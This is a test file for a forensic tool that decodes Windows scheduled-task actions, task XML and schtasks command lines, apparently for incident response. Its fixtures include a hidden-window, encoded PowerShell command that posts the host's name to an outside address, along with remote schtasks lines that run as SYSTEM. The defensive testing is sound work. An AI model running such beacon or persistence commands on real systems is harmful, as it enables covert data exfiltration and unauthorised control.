import { existsSync, readFileSync } from "node:fs";
import { setTimeout as sleep } from "node:timers/promises";
import { describe, expect, it } from "vitest";
import { sampleBytes, splitLines } from "../../support/captures.ts";
import { RunningProgram, tripline } from "../../support/program.ts";

interface RegistryDocument {
  readonly registry?: {
    readonly path: string;
    readonly data: { readonly bytes?: string };
  };
}

/** The value of the incident, as Elastic Endpoint logs it: base64. */
const BASE64 = splitLines(sampleBytes("incident-endpoint"))
  .map((line) => (JSON.parse(line) as RegistryDocument).registry)
  .find(
    (registry) =>
      registry?.path.endsWith("\\Actions") === true &&
      Buffer.from(registry.data.bytes ?? "", "base64")
        .toString("utf16le")
        .includes("-nop"),
  )!.data.bytes!;
const BYTES = Buffer.from(BASE64, "base64");
const HEX = BYTES.toString("hex");
const COMMAS = HEX.match(/../g)!.join(",");
/** As regedit writes it: wrapped, in UTF-16, with its heading. */
const REG_FILE = Buffer.from(
  `\ufeffWindows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{0}]\r\n"Actions"=hex:${COMMAS.replaceAll(/(.{60},)/g, "$1\\\r\n  ")}\r\n`,
  "utf16le",
);

const ENCODED =
  "aQByAG0AIABoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgA3ADcALwBjAGgAZQBjAGsAaQBuACAALQBNAGUAdABoAG8AZAAgAFAAbwBzAHQAIAAtAEIAbwBkAHkAIAAoAGgAbwBzAHQAbgBhAG0AZQApACAAfAAgAE8AdQB0AC0ATgB1AGwAbAA=";
const POWERSHELL = `powershell -nop -w hidden -enc ${ENCODED}`;
const DECODED = [
  `exec  cmd.exe /c start /min ${POWERSHELL}`,
  `  cmd → start /min ${POWERSHELL}`,
  `    start → ${POWERSHELL}`,
  "      powershell-encoded → irm http://198.51.100.77/checkin -Method Post -Body (hostname) | Out-Null",
  'runs as  principal "Author"',
  "from     registry value, version 3 (ok)",
];

const XML = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\\Updates\\Sync</URI><Author>LAB\\anna</Author></RegistrationInfo>
  <Triggers />
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>
  <Actions Context="Author"><Exec><Command>cmd.exe</Command><Arguments>/C whoami</Arguments></Exec></Actions>
</Task>`;

const firstLines = (stdout: string, count: number): string[] =>
  stdout.split("\n").slice(0, count);

describe("the export of several tasks", () => {
  const key = (n: number): string =>
    `[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{0A0B0C0D-0000-4000-8000-00000000000${n}}]\r\n"Path"="\\\\T${n}"\r\n"Actions"=hex:${COMMAS}\r\n\r\n`;
  const text = `Windows Registry Editor Version 5.00\r\n\r\n${key(1)}${key(2)}`;
  const stdin = [Buffer.from(`\ufeff${text}`, "utf16le")];

  it("tells each", async () => {
    const { stdout } = await tripline(["decode", "-"], { stdin });
    const named = stdout.split("\n").filter((line) => /^task /.test(line));
    expect(named).toEqual(["task     \\T1", "task     \\T2"]);
    expect(stdout.split("\n\n")).toHaveLength(2);
  });

  it("and as JSON those behind the first as others", async () => {
    const { stdout } = await tripline(["decode", "--json", "-"], { stdin });
    expect(JSON.parse(stdout)).toMatchObject({
      task: { uri: "\\T1", actions: [{ command: "cmd.exe" }] },
      others: [{ uri: "\\T2", actions: [{ command: "cmd.exe" }] }],
    });
  });
});

describe("an Actions value", () => {
  it.each<[string, string[], (string | Buffer)[]]>([
    ["base64 as an argument", [BASE64], []],
    ["hex as an argument", [HEX], []],
    ["a line of a .reg file as an argument", [`"Actions"=hex:${COMMAS}`], []],
    ["base64 through standard input", [], [BASE64, "\n"]],
    ["base64 with -", ["-"], [BASE64.slice(0, 99), BASE64.slice(99), "\r\n"]],
    ["the bytes themselves", ["-"], [BYTES]],
    ["a .reg file", [], [REG_FILE]],
  ])("%s", async (_, args, stdin) => {
    const { code, stdout, stderr } = await tripline(["decode", ...args], {
      stdin,
    });
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    expect(firstLines(stdout, DECODED.length)).toEqual(DECODED);
  });

  it("--json", async () => {
    const { code, stdout } = await tripline(["decode", "--json", BASE64]);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({
      kind: "actions-value",
      task: {
        status: "ok",
        source: "registry-bytes",
        version: 3,
        context: "Author",
        actions: [
          {
            type: "exec",
            command: "cmd.exe",
            arguments: `/c start /min ${POWERSHELL}`,
          },
        ],
      },
    });
  });

  it("the words that Sysmon writes in its place", async () => {
    const { code, stdout } = await tripline(["decode", "Binary Data"]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^no action known\n/);
    expect(stdout).toContain('only the words "Binary Data"');
  });
});

describe("a task definition", () => {
  it.each<[string, string[], (string | Buffer)[]]>([
    ["as an argument", [XML], []],
    ["through standard input", ["-"], [XML]],
    [
      "a file from System32\\Tasks",
      [],
      [Buffer.from(`\ufeff${XML}`, "utf16le")],
    ],
  ])("%s", async (_, args, stdin) => {
    const { code, stdout } = await tripline(["decode", ...args], { stdin });
    expect(code).toBe(0);
    expect(firstLines(stdout, 4)).toEqual([
      "exec  cmd.exe /C whoami",
      "  cmd → whoami",
      "task     \\Updates\\Sync",
      "runs as  S-1-5-18 (SYSTEM)",
    ]);
  });

  it("--json", async () => {
    const { stdout } = await tripline(["decode", "--json"], { stdin: [XML] });
    expect(JSON.parse(stdout)).toMatchObject({
      kind: "task-xml",
      task: {
        uri: "\\Updates\\Sync",
        author: "LAB\\anna",
        actions: [{ type: "exec", command: "cmd.exe", arguments: "/C whoami" }],
      },
    });
  });
});

describe("a task command line", () => {
  const LINE =
    'schtasks /create /S SRV1 /u lab\\anna /p Hunter2! /tn Sync /tr "cmd.exe /c whoami" /sc once /st 10:00 /ru SYSTEM';

  it("is explained, and its password is not shown", async () => {
    const { code, stdout } = await tripline(["decode", LINE]);
    expect(code).toBe(0);
    expect(stdout).toContain("exec  cmd.exe /c whoami\n  cmd → whoami\n");
    expect(stdout).toContain("runs as  SYSTEM\nstarts   once at 10:00\n");
    expect(stdout).toContain("SRV1");
    expect(stdout).not.toContain("Hunter2");
  });

  it("--json, and its password is not shown", async () => {
    const { stdout } = await tripline(["decode", "--json", LINE]);
    expect(JSON.parse(stdout)).toMatchObject({
      kind: "command-line",
      task: { runAs: "SYSTEM", actions: [{ command: "cmd.exe" }] },
      command: { verb: "create", remote: true, targetHost: "SRV1" },
    });
    expect(stdout).not.toContain("Hunter2");
  });
});

describe("--json has what the lines have", () => {
  const SCRIPT = Buffer.from(
    "schtasks /change /tn x /rp Hunter2!",
    "utf16le",
  ).toString("base64");

  it("each layer of each action, and the reasons to look closer", async () => {
    const { stdout } = await tripline(["decode", "--json", BASE64]);
    const { task } = JSON.parse(stdout) as { task: Record<string, unknown> };
    expect(task["actions"]).toMatchObject([
      {
        layers: [
          { kind: "cmd", text: `start /min ${POWERSHELL}` },
          { kind: "start", text: POWERSHELL },
          {
            kind: "powershell-encoded",
            text: "irm http://198.51.100.77/checkin -Method Post -Body (hostname) | Out-Null",
          },
        ],
      },
    ]);
    expect(task["hints"]).toMatchObject([
      { hint: "encoded-powershell" },
      { hint: "hidden-window" },
      { hint: "network-download" },
    ]);
  });

  it("why a layer stays closed", async () => {
    const { stdout } = await tripline([
      "decode",
      "--json",
      "<Task><Actions><Exec><Command>powershell</Command><Arguments>-enc %x%</Arguments></Exec><ShowMessage/></Actions></Task>",
    ]);
    expect(JSON.parse(stdout)).toMatchObject({
      task: {
        actions: [
          { layers: [], problem: "the encoded command is not base64" },
          { type: "showMessage", layers: [] },
        ],
      },
    });
  });

  it("a command line in one sentence", async () => {
    const { stdout } = await tripline([
      "decode",
      "--json",
      `schtasks /create /s fs9 /tn N /tr "powershell -e ${SCRIPT}" /sc onstart`,
    ]);
    expect(JSON.parse(stdout)).toMatchObject({
      command: {
        sentence:
          "schtasks creates task N on fs9 (remote): powershell -e ****, at system start",
        action: { command: "powershell", arguments: "-e ****" },
      },
      task: {
        actions: [
          {
            layers: [
              {
                kind: "powershell-encoded",
                text: "schtasks /change /tn x /rp ****",
              },
            ],
          },
        ],
      },
    });
    expect(stdout).not.toContain("Hunter2");
    expect(stdout).not.toContain(SCRIPT);
  });

  it("control characters are spelt out", async () => {
    const { stdout } = await tripline([
      "decode",
      "--json",
      "<Task><Actions><Exec><Command>a\u009bb\u202ec</Command></Exec></Actions></Task>",
    ]);
    expect(stdout).not.toMatch(/[\u007f-\u009f\u202e]/);
    expect(JSON.parse(stdout)).toMatchObject({
      task: { actions: [{ command: "a\u009bb\u202ec" }] },
    });
  });
});

describe("what cannot be decoded", () => {
  it("is said, with 0: nobody made a mistake", async () => {
    expect(await tripline(["decode", "xyzzy"])).toEqual({
      code: 0,
      stdout:
        "no action known\nfrom     nothing (error)\nproblem  The input is no Actions value, task definition or task command line.\n",
      stderr: "",
    });
  });

  it.each<[string, string[]]>([
    ["nothing", []],
    ["an empty argument", [""]],
  ])("%s is a mistake", async (_, args) => {
    expect(await tripline(["decode", ...args])).toEqual({
      code: 3,
      stdout: "",
      stderr:
        "tripline: nothing to decode\n  give the value as an argument, or pipe it in: tripline decode < value.txt\n",
    });
  });

  it("more than any task can be is not read", async () => {
    const { code, stdout, stderr } = await tripline(["decode"], {
      stdin: [Buffer.alloc(17_000_000, "A")],
    });
    expect({ code, stdout, stderr }).toEqual({
      code: 3,
      stdout: "",
      stderr:
        "tripline: the input is larger than 16 MiB\n  a task's definition is a few KiB; give fewer values at a time\n",
    });
  });

  it("control characters of the value do not reach the terminal", async () => {
    const value = `<Task><Actions><Exec><Command>a\u009b31mb\u202ec</Command></Exec></Actions></Task>`;
    const { stdout } = await tripline(["decode", value]);
    expect(stdout).toContain("exec  a");
    expect(stdout).not.toMatch(
      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/,
    );
  });
});

/** Processor time a process has used, ms. */
function usedMs(pid: number): number {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  // The name may hold anything; after it, fields are numbered from 3. A tick is 10 ms.
  const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
  return (Number(fields[11]) + Number(fields[12])) * 10;
}

it.skipIf(!existsSync("/proc/self/stat"))(
  "waits for a slow pipe without using the processor (needs /proc)",
  async () => {
    const program = new RunningProgram(["decode"]);
    const pid = program.child.pid!;
    let used = Infinity;
    for (let i = 0; i < 20 && used > 60; i++) {
      const before = usedMs(pid);
      await sleep(400);
      used = usedMs(pid) - before;
    }
    expect(used).toBeLessThanOrEqual(60);
    program.child.stdin.end(BASE64);
    await program.until(() => !program.isRunning, "its end");
    const { code, stdout } = await program.exit();
    expect(code).toBe(0);
    expect(stdout).toContain("exec  cmd.exe");
  },
);
